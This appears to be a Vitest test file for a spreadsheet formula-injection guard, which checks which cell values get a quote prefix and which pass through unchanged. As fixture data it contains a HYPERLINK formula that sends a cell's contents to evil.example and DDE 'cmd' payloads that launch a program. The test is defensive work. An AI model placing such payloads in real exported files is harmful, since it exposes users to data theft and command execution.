import { describe, expect, it } from 'vitest';
import { neutralizeFormula } from './formula-guard.js';

describe('neutralizeFormula', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A2,"clique")', `'=HYPERLINK("http://evil.example/?x="&A2,"clique")`],
    ['=1+1', "'=1+1"],
    ['+SUM(A1:A9)', "'+SUM(A1:A9)"],
    ['-2+3+cmd|\' /C calc\'!A0', "'-2+3+cmd|' /C calc'!A0"],
    ['@SUM(1,2)', "'@SUM(1,2)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['+55 11 98765-4321', "'+55 11 98765-4321"],
    ['-', "'-"],
    ['+', "'+"],
    ['=', "'="],
    ['-1e5', "'-1e5"],
    // Spreadsheet apps skip leading whitespace and line breaks before looking for a formula.
    [' =1+1', "' =1+1"],
    ['\n=1+1', "'\n=1+1"],
    ['\r\n=1+1', "'\r\n=1+1"],
    ['\n+SUM(A1:A9)', "'\n+SUM(A1:A9)"],
    ['\n-2+3', "'\n-2+3"],
    ['\n@SUM(1,2)', "'\n@SUM(1,2)"],
    [' \n \t=cmd|\'/C calc\'!A0', "' \n \t=cmd|'/C calc'!A0"],
    ['\n\n\n=HYPERLINK("http://evil.example")', `'\n\n\n=HYPERLINK("http://evil.example")`],
    ['\t+5511987654321', "'\t+5511987654321"],
    ['\rMaria', "'\rMaria"],
    ['\n+55 11 98765-4321', "'\n+55 11 98765-4321"],
  ])('prefixes %j', (raw, want) => expect(neutralizeFormula(raw)).toBe(want));

  it.each([
    ['+5511987654321'],
    ['-12.50'],
    ['-1.234,56'],
    ['-1,234.56'],
    ['+0'],
    ['-.5'],
    ['-,5'],
    [''],
    ['Maria'],
    ['João da Silva'],
    ['123.456.789-09'],
    ['\nMaria'],
    [' João'],
    ['\n+5511987654321'],
    [' -12.5'],
    ['\n'],
    ['   '],
    ["'=already quoted"],
    ['a=b'],
  ])('keeps %j as it is', (raw) => expect(neutralizeFormula(raw)).toBe(raw));
});
